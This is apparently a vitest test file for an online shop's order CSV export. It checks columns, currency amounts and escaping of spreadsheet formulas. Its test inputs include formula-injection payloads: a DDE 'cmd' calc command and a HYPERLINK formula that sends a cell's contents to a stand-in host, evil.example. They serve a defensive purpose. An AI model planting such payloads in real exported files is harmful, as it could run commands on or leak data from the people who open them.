import fc from 'fast-check';
import { expect, test } from 'vitest';

import { propertyRuns } from '#domain/testing/property-runs.ts';
import { cleanLine } from '#domain/text.ts';
import type { OrderToExport } from '#server/orders/queries/order-lists.ts';

import { formatTextCell } from '../core/csv-cells.ts';
import { formatAmountCell, renderCsvHeader, renderCsvRows } from './order-csv.ts';

/** Parses CSV by RFC 4180, independently of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      at += 1;
      for (;;) {
        if (at >= text.length) throw new Error('A quote was never closed');
        if (text[at] !== '"') cell += text[at++];
        else if (text[at + 1] === '"') {
          cell += '"';
          at += 2;
        } else break;
      }
      at += 1;
    } else while (at < text.length && text[at] !== ',' && text[at] !== '\r') cell += text[at++];
    row.push(cell);
    if (text[at] === ',') at += 1;
    else if (text.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`Neither a comma nor a line’s end at ${at}`);
  }
  return rows;
}

const HEADERS = parseCsv(renderCsvHeader().slice(1))[0] ?? [];

const buildRow = (change: Partial<OrderToExport> = {}): OrderToExport => ({
  number: 7,
  createdAt: '2026-11-20T14:12:00.000Z',
  state: 'paid',
  dispute: null,
  paymentPlan: null,
  productName: 'Throwing Taller',
  billing: null,
  buyerName: 'Celeste',
  email: 'celeste@example.com',
  country: 'FR',
  currency: 'USD',
  original: 8900,
  discount: 1780,
  couponCode: 'EARLY20',
  total: 7120,
  received: 7120,
  refunded: 120,
  lost: 0,
  paymentMethod: 'card',
  paymentMethodDetails: { brand: 'visa', last4: '4242', bank: null },
  paymentIntentId: 'pi_1',
  subscriptionId: null,
  sessionId: 'cs_1',
  termsRequired: true,
  termsAccepted: true,
  checkoutStartedAt: '2026-11-20T14:11:00.000Z',
  slug: 'taller',
  answers: [],
  lines: [
    {
      key: 'main',
      name: 'Throwing Taller',
      kind: 'one_time',
      unit: 8900,
      quantity: 1,
      subtotal: 8900,
      discount: 1780,
      total: 7120,
      refunded: 0,
      refundedQuantity: 0,
    },
    {
      key: 'bump:a',
      name: 'Glaze',
      kind: 'one_time',
      unit: 450,
      quantity: 2,
      subtotal: 900,
      discount: 0,
      total: 900,
      refunded: 0,
      refundedQuantity: 0,
    },
  ],
  attemptId: '7f0c6f5e-6d2c-4a0e-9a3e-2f2f2f2f2f2f',
  id: '7f0c6f5e-6d2c-4a0e-9a3e-1f1f1f1f1f1f',
  paidAt: '2026-11-20T14:12:08.000Z',
  source: 'newsletter',
  utmSource: 'newsletter',
  utmMedium: '',
  utmCampaign: 'autumn',
  utmTerm: '',
  utmContent: '',
  externalId: 'cart-7',
  pageId: '3d9b0a52-8f0c-4c8b-a0f3-6f2f1c7e5b44',
  plan: 'pro',
  quantity: 1,
  checkoutLinkId: null,
  metadata: { userId: '42' },
  entitlementStates: [],
  ...change,
});

/** Reads one order as a spreadsheet does, by header. */
function readBack(change: Partial<OrderToExport>): Record<string, string> {
  const [cells = [], ...rest] = parseCsv(renderCsvRows([buildRow(change)], 'https://till.example'));
  expect(rest).toEqual([]);
  expect(cells).toHaveLength(HEADERS.length);
  return Object.fromEntries(HEADERS.map((header, index) => [header, cells[index] ?? '']));
}

test('starts with a byte order mark and ends lines with CRLF', () => {
  expect(renderCsvHeader().startsWith('\ufeffNumber,Date (UTC),')).toBe(true);
  expect(renderCsvHeader().endsWith('\r\n')).toBe(true);
  expect(renderCsvRows([buildRow(), buildRow()], '').split('\r\n')).toHaveLength(3);
});

test('writes an order as one row with all its columns', () => {
  expect(readBack({})).toEqual({
    Number: '7',
    'Date (UTC)': '2026-11-20T14:12:00.000Z',
    State: 'paid',
    Dispute: '',
    Product: 'Throwing Taller',
    Quantity: '1',
    Items: 'Throwing Taller = 89.00; Glaze × 2 = 9.00',
    Renews: '',
    Page: 'https://till.example/c/taller',
    Buyer: 'Celeste',
    Email: 'celeste@example.com',
    Country: 'FR',
    Currency: 'USD',
    Subtotal: '89.00',
    Discount: '17.80',
    Coupon: 'EARLY20',
    Total: '71.20',
    Received: '71.20',
    Refunded: '1.20',
    'Lost to disputes': '0.00',
    Net: '70.00',
    'Payment method': 'card',
    'Card brand': 'visa',
    'Card last 4': '4242',
    Payment: 'pi_1',
    Subscription: '',
    'Checkout session': 'cs_1',
    'Terms accepted': 'yes',
    'Checkout started at (UTC)': '2026-11-20T14:11:00.000Z',
    ID: '7f0c6f5e-6d2c-4a0e-9a3e-1f1f1f1f1f1f',
    'Paid at (UTC)': '2026-11-20T14:12:08.000Z',
    Source: 'newsletter',
    'UTM source': 'newsletter',
    'UTM medium': '',
    'UTM campaign': 'autumn',
    'UTM term': '',
    'UTM content': '',
    'External ID': 'cart-7',
    'Page ID': '3d9b0a52-8f0c-4c8b-a0f3-6f2f1c7e5b44',
    'Price option ID': 'pro',
    'Checkout ID': '',
    'Plan payments': '',
    'Plan of': '',
    'Plan state': '',
    Metadata: '{"userId":"42"}',
    Access: '',
  });
});

test('says whether the buyer has access to what the order delivers', () => {
  expect(readBack({ entitlementStates: ['active'] }).Access).toBe('active');
  expect(readBack({ entitlementStates: ['active', 'ended'] }).Access).toBe('active; ended');
});

test('says how many payments of a plan were made, and its state', () => {
  const paymentPlan = { count: 3, paid: 2, state: 'overdue', nextAt: null } as const;
  expect(readBack({ paymentPlan })).toMatchObject({ 'Plan payments': '2', 'Plan of': '3', 'Plan state': 'overdue' });
});

test('formats amounts with the digits of their currency without losing a fraction', () => {
  expect(formatAmountCell(0, 'USD')).toBe('0.00');
  expect(formatAmountCell(5, 'USD')).toBe('0.05');
  expect(formatAmountCell(-1234, 'EUR')).toBe('-12.34');
  expect(formatAmountCell(500, 'JPY')).toBe('500');
  expect(formatAmountCell(12_345, 'KWD')).toBe('12.345');
  expect(formatAmountCell(99_999_999, 'USD')).toBe('999999.99');
  // Stripe uses two decimals for this currency, and people use none.
  expect(formatAmountCell(500, 'ISK')).toBe('5');
  expect(formatAmountCell(550, 'ISK')).toBe('5.50');
});

const FORMULA_INPUTS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '"=1+1',
  "'=1+1",
  '“=1+1”',
  '\u200b=1+1',
  '\u00a0=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '＠x',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
];

test('escapes formulas in names', () => {
  for (const name of FORMULA_INPUTS) {
    const cell = readBack({ buyerName: name }).Buyer ?? '';
    expect([name, cell.startsWith("'")]).toEqual([name, true]);
  }
  expect(formatTextCell('Ann = Bob')).toBe('"Ann = Bob"');
  expect(formatTextCell('100% wool')).toBe('"100% wool"');
  expect(formatTextCell('O’Brien')).toBe('"O’Brien"');
});

test.for(["A;=cmd|' /C calc'!A0", 'A; =1+1', 'A;"=1+1', 'A;\t@x', 'A;;-1', 'A\t;＝1'])(
  'escapes formulas behind semicolons: %j',
  (name) => {
    const cells = formatTextCell(name).split(';').slice(1);
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝]/);
    expect(formatTextCell(name)).not.toContain('\t');
  },
);

test('leaves semicolons and commas without a formula unchanged', () => {
  expect(formatTextCell('Cups; plates, -5% off')).toBe('"Cups; plates, -5% off"');
});

test('adds a column for each custom field and escapes hostile labels and answers', () => {
  const columns = [
    { id: 'a', label: '=HYPERLINK("https://evil.example")' },
    { id: 'b', label: 'Email' },
    { id: 'c', label: 'Size, “large”\r\n"or" small' },
    { id: 'd', label: 'Email' },
    { id: 'e', label: 'Never answered here' },
  ];
  const headers = (parseCsv(renderCsvHeader(columns).slice(1))[0] ?? []).slice(HEADERS.length);
  expect(headers).toEqual([
    '\'=HYPERLINK("https://evil.example")',
    'Email (2)',
    'Size, “large” "or" small',
    'Email (3)',
    'Never answered here',
  ]);
  const buildAnswer = (id: string, value: string) => ({ id, kind: 'long', label: '', value }) as const;
  const answers = [
    buildAnswer('d', '+49 30 1234567'),
    buildAnswer('a', '=1+1\nand more'),
    buildAnswer('b', '"quoted", with\ta tab'),
    buildAnswer('gone', 'has no column'),
  ];
  const ids = columns.map(({ id }) => id);
  const [cells = []] = parseCsv(renderCsvRows([buildRow({ answers })], '', ids));
  expect(cells.slice(HEADERS.length)).toEqual(["'=1+1 and more", '"quoted", with a tab', '', "'+49 30 1234567", '']);
});

test('keeps a name on one line', () => {
  expect(readBack({ buyerName: 'Ann\r\nBob\u2028Cid\u0085Dee' }).Buyer).toBe('Ann Bob Cid Dee');
  expect(readBack({ buyerName: 'a'.repeat(10_000) }).Buyer).toHaveLength(10_000);
});

/** Beginnings that spreadsheets read as a formula, defined independently of the code under test. */
const startsFormula = (cell: string): boolean => '=+-@\t\r\n＝＋－＠'.includes(cell.charAt(0)) && cell !== '';

const arbitraryText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '"', "'", ',', ';', '\t', '\r', '\n', ' ', 'a', '\u202e', '\0'),
    maxLength: 12,
  }),
);

test('reads back the stored text from a spreadsheet for any name', () => {
  fc.assert(
    fc.property(arbitraryText, arbitraryText, arbitraryText, (buyerName, productName, couponCode) => {
      const readRow = readBack({ buyerName, productName, couponCode });
      for (const [cell = '', stored] of [
        [readRow.Buyer, buyerName],
        [readRow.Product, productName],
        [readRow.Coupon, couponCode],
      ] as const) {
        const line = cleanLine(stored);
        const unguarded = cell.replaceAll(/;'(?=[\s\p{Cf}'"`´‘’“”„«»]*[=+\-@＝＋－＠])/gu, ';');
        expect([line, `'${line}`]).toContain(unguarded);
        expect(startsFormula(cell)).toBe(false);
        expect(/[\r\n\t\0]/.test(cell)).toBe(false);
      }
      expect(readRow.Total).toBe('71.20');
    }),
    { numRuns: propertyRuns(1000) },
  );
});
